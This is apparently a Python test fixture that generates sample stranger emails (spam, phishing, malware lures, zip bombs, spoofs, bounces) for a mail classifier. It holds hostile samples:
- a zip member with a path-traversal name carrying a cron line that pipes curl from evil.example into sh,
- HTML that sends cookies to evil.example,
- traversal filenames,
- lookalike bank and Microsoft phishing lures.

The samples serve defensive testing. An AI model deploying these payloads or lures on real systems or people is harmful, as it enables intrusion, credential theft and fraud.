"""strangers/: mail from anybody but the two units: spam, phishing, malware, machines, spoofs."""

from __future__ import annotations

from tests.data.mail.clients import _h, boundary, mid
from tests.data.mail.mimekit import (
    DEPT,
    NAME_HAI,
    TINY_JPEG,
    UNIT_HAI,
    XLSX,
    addr,
    attach,
    date,
    enc,
    encrypted_zip,
    finish,
    make_zip,
    message,
    multipart,
    noise,
    part,
    text,
    zip_bomb,
)

MAKERS = []
OCTET = "application/octet-stream"


def build() -> list[dict]:
    return [make() for make in MAKERS]


def msg(fn):
    MAKERS.append(fn)
    return fn


def simple(
    n,
    slug,
    what,
    sender,
    subject,
    plain=None,
    html=None,
    atts=(),
    extra=(),
    client="other",
    machine=False,
    malicious=False,
    to=None,
    subject_raw=None,
    **kw,
) -> dict:
    """A stranger's message; ``sender`` is the From value as written."""
    seed = f"s{n:02d}"
    day, hh, mm = 18 + n % 12, (n * 7) % 24, (n * 13) % 60
    d = date(day, hh, mm, n % 60, "+0000" if n % 3 else "+0800")
    if plain is not None and html is not None:
        body = multipart(
            "alternative", boundary(client, seed, 1), [text(plain), text(html, "html")]
        )
    elif html is not None:
        body = text(html, "html")
    else:
        body = text(plain or "")
    if atts:
        body = multipart("mixed", boundary(client, seed, 0), [body, *atts])
    hdrs = [
        f"Received: from mail{n}.sender.example ([185.{n * 3}.{n * 5 % 250}.{n * 11 % 250}])\n"
        f"\tby mx.ninhthuan.example (Postfix) with ESMTP id {_h(seed, 10).upper()}\n\tfor <{DEPT}>; {d}",
        f"From: {sender}",
        f"To: {to or DEPT}",
        subject_raw or ("Subject: " + enc(subject)),
        f"Date: {d}",
        f"Message-ID: {mid('bulk.example', seed)}",
        "MIME-Version: 1.0",
        *extra,
    ]
    e = dict(
        file=f"strangers/{n:02d}-{slug}.eml",
        client=client,
        expect="stranger",
        what=what,
        data=finish(message(hdrs, body)),
        **kw,
    )
    if machine:
        e["machine"] = True
    if malicious:
        e["malicious"] = True
    return e


SPAM = [
    (
        "vn-loan-spam",
        "Vietnamese quick-loan spam",
        addr("Tài Chính Nhanh", "vaytien24h@fastloan.example"),
        "Vay tiền nhanh 50 triệu chỉ cần CMND, giải ngân trong 15 phút",
        "Chào anh/chị,\nHỗ trợ vay tiêu dùng đến 50.000.000đ, không thẩm định, không thế chấp.\n"
        "Liên hệ Zalo 0909 999 999 hoặc bấm http://vay-nhanh.example/dang-ky\n",
        None,
    ),
    (
        "en-casino-spam",
        "English online casino spam",
        "Lucky Spin Casino <promo@luckyspin.example>",
        "Your $500 welcome bonus + 200 free spins are waiting!!!",
        None,
        '<html><body><h1 style="color:gold">CLAIM YOUR $500 BONUS</h1><p>Play now at '
        '<a href="http://luckyspin.example/?ref=ninhthuan">Lucky Spin</a>. 18+ only.</p></body></html>',
    ),
    (
        "en-seo-spam",
        "English SEO services spam",
        "David Miller <david@rank-first.example>",
        "Re: Your website ranking on Google",
        "Hello,\n\nI was checking ninhthuan.example and noticed it is not ranking for important keywords.\n"
        "We can get you to page 1 of Google in 30 days. Reply for a free audit.\n\nDavid\n",
        None,
    ),
    (
        "en-crypto-spam",
        "English crypto investment spam",
        "Crypto Signals <vip@moonprofit.example>",
        "Turn $250 into $12,000 with our Bitcoin AI robot",
        "Dear investor,\nOur AI trading robot made 4,700% last month. Join now: http://moonprofit.example/join\n",
        '<html><body><p>Dear investor,</p><p><b>4,700%</b> last month. <a href="http://moonprofit.example/join">'
        "Join now</a></p></body></html>",
    ),
    (
        "vn-seo-spam",
        "Vietnamese SEO/website services spam",
        addr("Dịch vụ SEO Top 1", "seo@top1google.example"),
        "Đưa website của quý cơ quan lên TOP 1 Google chỉ 1.990.000đ/tháng",
        "Kính gửi Quý cơ quan,\nChúng tôi cung cấp dịch vụ SEO, thiết kế website, chạy quảng cáo Facebook.\n"
        "Cam kết TOP 1 hoặc hoàn tiền 100%.\nHotline: 0988 888 888\n",
        None,
    ),
    (
        "vn-crypto-spam",
        "Vietnamese crypto Ponzi spam",
        addr("Cộng đồng Đầu tư 4.0", "dautu@coin-vn.example"),
        "Đầu tư Bitcoin lãi 30%/tháng – cơ hội cuối cùng năm 2018",
        "Chỉ với 5 triệu đồng, anh/chị nhận lãi 30% mỗi tháng. Đăng ký: http://coin-vn.example/ref/8899\n",
        None,
    ),
]


def _spam(i, row):
    slug, what, sender, subject, plain, html = row
    return lambda: simple(i, slug, what, sender, subject, plain, html, malicious=True)


for _i, _row in enumerate(SPAM, 1):
    MAKERS.append(_spam(_i, _row))


PHISH_LINK = "http://login-microsoftonline.account-verify.example/owa/?u=tuyengiao"


@msg
def s07():
    html = (
        '<html><body><div style="font-family:Segoe UI"><h2>Microsoft 365</h2><p>Mật khẩu của tài khoản '
        f"{DEPT} sẽ hết hạn trong 24 giờ.</p><p>Để giữ mật khẩu hiện tại, vui lòng "
        f'<a href="{PHISH_LINK}">xác nhận tại đây</a>.</p><p>Nhóm Microsoft 365</p></div></body></html>'
    )
    return simple(
        7,
        "phish-m365-password",
        "Fake 'Microsoft 365: mật khẩu sắp hết hạn' with a credential link",
        addr("Microsoft 365", "admin@m365-support.example"),
        "Microsoft 365: mật khẩu của bạn sắp hết hạn",
        "Mật khẩu sắp hết hạn. Xác nhận: " + PHISH_LINK,
        html,
        extra=("Reply-To: helpdesk.m365@protonmail.example",),
        malicious=True,
    )


@msg
def s08():
    link = "http://vietcombank.com.vn.xac-thuc-tk.example/login"
    return simple(
        8,
        "phish-vietcombank",
        "Fake Vietcombank account-lock alert with a lookalike link",
        addr("Vietcombank", "thongbao@vietcombank-vn.example"),
        "[Vietcombank] Tài khoản của quý khách tạm khóa do đăng nhập bất thường",
        f"Quý khách vui lòng xác thực lại thông tin trong 24h để tránh bị khóa vĩnh viễn: {link}\n",
        f'<html><body><p>Quý khách vui lòng <a href="{link}">xác thực lại thông tin</a> trong 24h.</p>'
        "<p>Vietcombank</p></body></html>",
        malicious=True,
    )


@msg
def s09():
    link = "http://vneid-gov.example/kich-hoat"
    return simple(
        9,
        "phish-vneid",
        "Fake VNeID identity activation phishing, Reply-To elsewhere",
        addr("Bộ Công an - VNeID", "hotro@vneid-gov.example"),
        "Thông báo: Tài khoản định danh điện tử VNeID cần cập nhật",
        f"Tài khoản định danh điện tử của cơ quan cần cập nhật trước 30/6/2018 tại {link}\n",
        extra=("Reply-To: vneid.capnhat@mail.example",),
        malicious=True,
    )


@msg
def s10():
    link = "https://accounts.google.com.signin-verify.example/challenge"
    return simple(
        10,
        "phish-gmail-alert",
        "Fake Gmail security alert from a no-reply lookalike address",
        addr("Google", "no-reply@accounts-google.example"),
        "Cảnh báo bảo mật: Đăng nhập mới trên Windows",
        f"Có người vừa đăng nhập vào tài khoản của bạn. Nếu không phải bạn, hãy kiểm tra: {link}\n",
        f'<html><body><p>Có người vừa đăng nhập. <a href="{link}">Kiểm tra hoạt động</a></p></body></html>',
        machine=True,
        malicious=True,
    )


@msg
def s11():
    return simple(
        11,
        "newsletter-list-bulk",
        "Newsletter with List-Unsubscribe and Precedence: bulk",
        addr("Báo Thanh Niên", "bantin@thanhnien-news.example"),
        "Bản tin sáng 26/6: Tin nổi bật",
        "Tin nổi bật hôm nay...\nHủy đăng ký: http://thanhnien-news.example/unsub?u=123\n",
        '<html><body><h3>Tin nổi bật</h3><p>...</p><a href="http://thanhnien-news.example/unsub?u=123">'
        "Hủy đăng ký</a></body></html>",
        extra=(
            "List-Unsubscribe: <http://thanhnien-news.example/unsub?u=123>, <mailto:unsub@thanhnien-news.example>",
            "Precedence: bulk",
        ),
        machine=True,
    )


@msg
def s12():
    return simple(
        12,
        "newsletter-list-id",
        "Mailing-list digest with List-Id and List-Unsubscribe-Post",
        "Doan Thanh Nien Digest <digest@lists.doanthanhnien.example>",
        "Digest, Vol 12, Issue 4",
        "Today's Topics:\n  1. Hoi thao chuyen doi so\n",
        None,
        extra=(
            "List-Id: Doan Thanh Nien <digest.lists.doanthanhnien.example>",
            "List-Unsubscribe: <https://lists.doanthanhnien.example/unsubscribe>",
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
            "Precedence: list",
        ),
        machine=True,
    )


@msg
def s13():
    return simple(
        13,
        "newsletter-no-list-headers",
        "Newsletter without any list or bulk headers",
        addr("Tạp chí Tuổi Trẻ Online", "tapchi@tuoitre-mag.example"),
        "Tạp chí số tháng 6/2018",
        "Mời quý độc giả đón đọc tạp chí số tháng 6/2018.\n",
        "<html><body><p>Mời quý độc giả đón đọc <b>tạp chí số tháng 6/2018</b>.</p></body></html>",
    )


@msg
def s14():
    return simple(
        14,
        "newsletter-noreply",
        "Shop promotion from a noreply address, no list headers",
        addr("Shopee Việt Nam", "noreply@shopee-vn.example"),
        "Siêu sale 6.6 – giảm đến 50%",
        None,
        "<html><body><h1>Siêu sale 6.6</h1><p>Giảm đến 50%.</p></body></html>",
        machine=True,
    )


INVOICE = (
    "Kính gửi Quý khách,\nĐính kèm hóa đơn điện tử tháng 6/2018. Vui lòng mở tệp để xem chi tiết.\n"
)
MALWARE = [
    (
        15,
        "invoice-pdf-exe",
        "Invoice lure with hoa_don.pdf.exe (octet-stream)",
        "hoa_don.pdf.exe",
        OCTET,
        b"MZ",
    ),
    (16, "screensaver-scr", "Lure with a .scr executable", "bien_ban_hop.scr", OCTET, b"MZ"),
    (
        17,
        "javascript-js",
        "Lure with a .js dropper",
        "thong_bao_thue.js",
        "application/javascript",
        b"var a=",
    ),
    (
        18,
        "shortcut-lnk",
        "Lure with a Windows .lnk shortcut",
        "quyet_dinh.lnk",
        "application/x-ms-shortcut",
        b"L\x00\x00\x00\x01\x14\x02\x00",
    ),
    (
        19,
        "disk-image-iso",
        "Lure with an .iso disk image",
        "ho_so_du_thau.iso",
        "application/x-iso9660-image",
        b"",
    ),
]


def _malware(n, slug, what, name, ctype, head):
    return lambda: simple(
        n,
        slug,
        what,
        addr("Kế toán EVN", f"ketoan{n}@hoadon-evn.example"),
        f"Hóa đơn điện tử số 00{n}8871 tháng 6/2018",
        INVOICE,
        atts=[attach(ctype, head + noise(n, 3000), name, style="raw")],
        malicious=True,
        n_att=1,
    )


for _row in MALWARE:
    MAKERS.append(_malware(*_row))


@msg
def s20():
    return simple(
        20,
        "zip-bomb",
        "Zip bomb bao_cao.zip: one member of 50 MB of zeros, deflated",
        addr("Phòng Tổng hợp", "tonghop@baocao-tinh.example"),
        "Báo cáo tổng hợp",
        "Gửi báo cáo.\n",
        atts=[attach("application/zip", zip_bomb(), "bao_cao.zip", style="raw")],
        malicious=True,
        n_att=1,
    )


@msg
def s21():
    return simple(
        21,
        "zip-bomb-as-xlsx",
        "The same zip-bomb bytes named bao_cao.xlsx",
        addr("Phòng Tổng hợp", "tonghop@baocao-tinh.example"),
        "Báo cáo tổng hợp (xlsx)",
        "Gửi báo cáo.\n",
        atts=[attach(XLSX, zip_bomb(), "bao_cao.xlsx", style="raw")],
        malicious=True,
        n_att=1,
    )


@msg
def s22():
    z = make_zip(
        [
            ("../../../../etc/cron.d/x", b"* * * * * root curl http://evil.example/x | sh\n"),
            ("bao_cao.txt", b"bao cao\n"),
        ]
    )
    return simple(
        22,
        "zip-traversal-member",
        "Zip whose member is named ../../../../etc/cron.d/x",
        "Nguyen Van A <nva@evil.example>",
        "Tài liệu",
        "Tài liệu đính kèm.\n",
        atts=[attach("application/zip", z, "tai_lieu.zip", style="raw")],
        malicious=True,
        n_att=1,
    )


@msg
def s23():
    return simple(
        23,
        "filename-traversal-passwd",
        "Attachment whose filename is ../../etc/passwd",
        "Tran B <tranb@evil.example>",
        "File",
        "Xem file.\n",
        atts=[
            attach(
                "text/plain", b"root:x:0:0:root:/root:/bin/bash\n", "../../etc/passwd", style="raw"
            )
        ],
        malicious=True,
        n_att=1,
    )


@msg
def s24():
    return simple(
        24,
        "filename-traversal-windows",
        "Attachment whose filename is ..\\..\\Windows\\evil.xlsx",
        "Tran B <tranb@evil.example>",
        "Biểu mẫu",
        "Biểu mẫu đính kèm.\n",
        atts=[attach(XLSX, noise(24, 1500), "..\\..\\Windows\\evil.xlsx", style="raw")],
        malicious=True,
        n_att=1,
    )


@msg
def s25():
    return simple(
        25,
        "encrypted-zip",
        "'Encrypted' zip (general-purpose flag bit 0 set) with the password in the text",
        addr("Phòng Hành chính", "hanhchinh@vanban-so.example"),
        "Văn bản mật – mật khẩu: 2018",
        "Mật khẩu giải nén: 2018\n",
        atts=[attach("application/zip", encrypted_zip(), "van_ban_mat.zip", style="raw")],
        malicious=True,
        n_att=1,
    )


@msg
def s26():
    docm = make_zip(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("word/document.xml", b"<w:document/>"),
            ("word/vbaProject.bin", noise(26, 2048)),
        ]
    )
    return simple(
        26,
        "macro-docm",
        "Word .docm with a vbaProject.bin macro",
        addr("Văn phòng UBND", "vanphong@ubnd-tinh.example"),
        "Kế hoạch triển khai năm 2018",
        "Đề nghị mở tệp và bật nội dung (Enable Content) để xem.\n",
        atts=[
            attach(
                "application/vnd.ms-word.document.macroEnabled.12",
                docm,
                "ke_hoach_2018.docm",
                style="raw",
            )
        ],
        malicious=True,
        n_att=1,
    )


def _form(rows):
    from tests.data.mail.corpus_returns import xlsx

    return attach(
        XLSX, xlsx("Báo cáo trang mạng xã hội.xlsx", rows), "Báo cáo trang mạng xã hội.xlsx"
    )


@msg
def s27():
    return simple(
        27,
        "lookalike-display-name",
        "Display name 'Huyện Đoàn Ninh Hải' but a personal gmail.example address",
        addr(NAME_HAI, "ninhhai.doan@gmail.example"),
        "Báo cáo CV 422",
        "Kính gửi Ban, đơn vị gửi báo cáo.\n",
        atts=[_form([["Tuổi trẻ Ninh Hải", "facebook.com/tuoitreninhhai", "Huyện Đoàn Ninh Hải"]])],
        client="gmail",
        n_att=1,
    )


@msg
def s28():
    return simple(
        28,
        "chidoan-real-form",
        "A chi đoàn (not a unit) sending a real xlsx form with rows",
        addr("Chi đoàn XYZ", "chidoan.xyz@gmail.example"),
        "Báo cáo trang mạng xã hội chi đoàn",
        "Chi đoàn gửi báo cáo theo CV 422 ạ.\n",
        atts=[
            _form(
                [
                    ["Chi đoàn XYZ", "facebook.com/chidoanxyz", "Chi đoàn XYZ"],
                    ["Tuổi trẻ XYZ", "zalo.me/tuoitrexyz", "Chi đoàn XYZ"],
                ]
            )
        ],
        client="gmail",
        n_att=1,
    )


@msg
def s29():
    return simple(
        29,
        "two-from-addresses",
        "From holds two addresses, a stranger's and the unit's",
        f"a@x.example, {UNIT_HAI}",
        "Báo cáo CV 422",
        "Gửi báo cáo.\n",
        atts=[_form(None)],
        malicious=True,
        n_att=1,
    )


@msg
def s30():
    return simple(
        30,
        "display-name-is-unit-address",
        "Display name is the unit address, real address attacker@evil.example",
        f'"{UNIT_HAI}" <attacker@evil.example>',
        "Báo cáo CV 422",
        "Gửi báo cáo.\n",
        atts=[_form(None)],
        malicious=True,
        n_att=1,
    )


@msg
def s31():
    html = (
        '<html><head><script>document.location="http://evil.example/?c="+document.cookie</script></head>'
        '<body onload="alert(1)"><p>Xem thông báo mới</p><script src="http://evil.example/x.js"></script>'
        "</body></html>"
    )
    return simple(
        31,
        "html-only-script",
        "HTML-only message carrying <script> and onload",
        "Thong bao <info@evil.example>",
        "Thông báo mới",
        None,
        html,
        malicious=True,
    )


@msg
def s32():
    subject = ("Khuyến mãi cực lớn " * 120)[:2000]
    return simple(
        32,
        "subject-2000-chars",
        "Spam with a 2,000-character subject",
        "Promo <promo@spam.example>",
        subject,
        "Xem ngay.\n",
        malicious=True,
    )


@msg
def s33():
    e = simple(
        33,
        "broken-mime-no-closing-boundary",
        "multipart/mixed missing its closing boundary",
        "Hoi thao <hoithao@events.example>",
        "Thư mời hội thảo",
        "Trân trọng kính mời.\n",
        atts=[
            attach("application/pdf", b"%PDF-1.4\n" + noise(33, 400), "thu_moi.pdf", style="raw")
        ],
        broken=True,
    )
    body = e["data"].rstrip(b"\r\n")
    assert body.endswith(b"--")
    e["data"] = body[: body.rfind(b"\r\n--")] + b"\r\n"
    return e


def _raw_text(charset: str, data: bytes, cte: str = "base64") -> str:
    from tests.data.mail.mimekit import b64

    return part(
        [f"Content-Type: text/plain; charset={charset}", f"Content-Transfer-Encoding: {cte}"],
        b64(data),
    )


@msg
def s34():
    import base64

    subj = (
        "Subject: =?GB2312?B?"
        + base64.b64encode("发票代开 增值税 优惠".encode("gb2312")).decode()
        + "?="
    )
    e = simple(
        34,
        "chinese-spam",
        "Chinese invoice spam in GB2312",
        "=?GB2312?B?"
        + base64.b64encode("王经理".encode("gb2312")).decode()
        + "?= <wang@fapiao.example>",
        "",
        subject_raw=subj,
        malicious=True,
    )
    body = _raw_text(
        "gb2312",
        "您好！本公司代开各地增值税发票，税点优惠。联系电话：13800000000\n".encode("gb2312"),
    )
    head = e["data"].split(b"\r\nContent-Type:", 1)[0].decode()
    e["data"] = finish(head + "\n" + body)
    return e


@msg
def s35():
    e = simple(
        35,
        "russian-spam",
        "Russian spam in windows-1251",
        "Marketing <sales@rassylka.example>",
        "",
        subject_raw="Subject: =?windows-1251?B?"
        + __import__("base64").b64encode("Базы данных для рассылок 2018".encode("cp1251")).decode()
        + "?=",
        malicious=True,
    )
    body = _raw_text("windows-1251", "Продаём базы e-mail адресов. Скидка 50%!\n".encode("cp1251"))
    head = e["data"].split(b"\r\nContent-Type:", 1)[0].decode()
    e["data"] = finish(head + "\n" + body)
    return e


@msg
def s36():
    d = date(24, 3, 3)
    data = f"From: unknown@empty.example\nTo: {DEPT}\nDate: {d}\nMessage-ID: {mid('empty.example', 's36')}\n\n"
    return dict(
        file="strangers/36-empty-message.eml",
        client="other",
        expect="stranger",
        what="Empty message: no subject, no MIME headers, no body",
        data=finish(data),
        n_att=0,
    )


@msg
def s37():
    html = '<html><body><a href="http://pills.example"><img src="cid:promo01@spam.example"></a></body></html>'
    rel = multipart(
        "related",
        boundary("other", "s37", 2),
        [
            text(html, "html"),
            attach(
                "image/jpeg",
                TINY_JPEG,
                "promo.jpg",
                "inline",
                cid="promo01@spam.example",
                style="raw",
            ),
        ],
    )
    e = simple(
        37,
        "image-only-spam",
        "Image-only spam (HTML is just a cid image and a link)",
        "Deals <deals@pills.example>",
        "Ưu đãi đặc biệt",
        None,
        "",
        malicious=True,
    )
    head = e["data"].split(b"\r\nContent-Type:", 1)[0].decode()
    e["data"] = finish(head + "\n" + rel)
    e["cids"] = ("promo01@spam.example",)
    return e


SCAMS = [
    (
        38,
        "lottery-scam",
        "Lottery 'trúng thưởng' scam",
        addr("Ban tổ chức", "giaithuong@trungthuong.example"),
        "Chúc mừng! Quý cơ quan trúng thưởng xe SH 150i",
        "Chúc mừng quý cơ quan đã trúng thưởng xe SH 150i. Vui lòng chuyển 2.000.000đ phí nhận giải vào "
        "tài khoản 0123456789.\n",
    ),
    (
        39,
        "job-scam",
        "Work-from-home job scam",
        addr("Tuyển dụng", "hr@viec-lam-online.example"),
        "Tuyển cộng tác viên làm tại nhà, thu nhập 500k/ngày",
        "Công việc nhẹ nhàng: like, share bài viết. Thu nhập 500.000đ/ngày. Nạp 300.000đ để kích hoạt.\n",
    ),
    (
        40,
        "fake-dhl",
        "Fake DHL delivery notice with a link",
        "DHL Express <delivery@dhl-tracking.example>",
        "DHL: Bưu kiện của bạn đang bị giữ – cần xác nhận địa chỉ",
        "Bưu kiện 7788990011 đang bị giữ. Xác nhận địa chỉ và thanh toán phí 25.000đ: http://dhl-tracking.example/pay\n",
    ),
    (
        41,
        "fake-viettel-post",
        "Fake Viettel Post notice with a link",
        addr("Viettel Post", "cskh@viettelpost-vn.example"),
        "Viettel Post thông báo giao hàng không thành công",
        "Đơn hàng của quý khách giao không thành công. Cập nhật thông tin: http://viettelpost-vn.example/cap-nhat\n",
    ),
]


def _scam(n, slug, what, sender, subject, plain):
    return lambda: simple(n, slug, what, sender, subject, plain, malicious=True)


for _row in SCAMS:
    MAKERS.append(_scam(*_row))


@msg
def s42():
    return simple(
        42,
        "out-of-office-unknown",
        "Out-of-office reply from an unknown person (Auto-Submitted: auto-replied)",
        addr("Nguyễn Văn Khánh", "khanh.nv@congty.example"),
        "Trả lời tự động: Báo cáo",
        "Tôi đang nghỉ phép đến hết ngày 02/7/2018, sẽ trả lời khi trở lại.\n",
        extra=("Auto-Submitted: auto-replied", "X-Auto-Response-Suppress: All"),
        machine=True,
    )


@msg
def s43():
    seed, d = "s43", date(26, 4, 12, 9)
    notice = text(
        "This is the mail system at host mx.far-away.example.\n\nI'm sorry to have to inform you that your "
        "message could not be delivered to one or more recipients.\n\n<nobody@far-away.example>: "
        "host mx.far-away.example said: 550 5.1.1 User unknown\n",
        charset="us-ascii",
        cte="7bit",
    )
    status = part(
        ["Content-Description: Delivery report", "Content-Type: message/delivery-status"],
        "Reporting-MTA: dns; mx.far-away.example\nArrival-Date: " + d + "\n\n"
        "Final-Recipient: rfc822; nobody@far-away.example\nOriginal-Recipient: rfc822;nobody@far-away.example\n"
        "Action: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 User unknown\n",
    )
    orig = part(
        ["Content-Description: Undelivered Message Headers", "Content-Type: text/rfc822-headers"],
        f"From: {DEPT}\nTo: nobody@far-away.example\nSubject: Cheap watches\n"
        "Message-ID: <forged123@spammer.example>\nDate: " + d + "\n",
    )
    body = multipart(
        "report",
        boundary("other", seed),
        [notice, status, orig],
        params="; report-type=delivery-status",
    )
    hdrs = [
        "Return-Path: <>",
        f"Received: by mx.far-away.example (Postfix) id 4F1A2B; {d}",
        "From: MAILER-DAEMON@far-away.example (Mail Delivery System)",
        "Subject: Undelivered Mail Returned to Sender",
        f"To: {DEPT}",
        "Auto-Submitted: auto-replied",
        f"Date: {d}",
        "Message-Id: <20180626041209.4F1A2B@mx.far-away.example>",
        "MIME-Version: 1.0",
    ]
    return dict(
        file="strangers/43-bounce-never-sent.eml",
        client="other",
        expect="stranger",
        what="Bounce (multipart/report delivery-status, MAILER-DAEMON, Return-Path <>) for mail we never sent",
        data=finish(message(hdrs, body)),
        machine=True,
    )
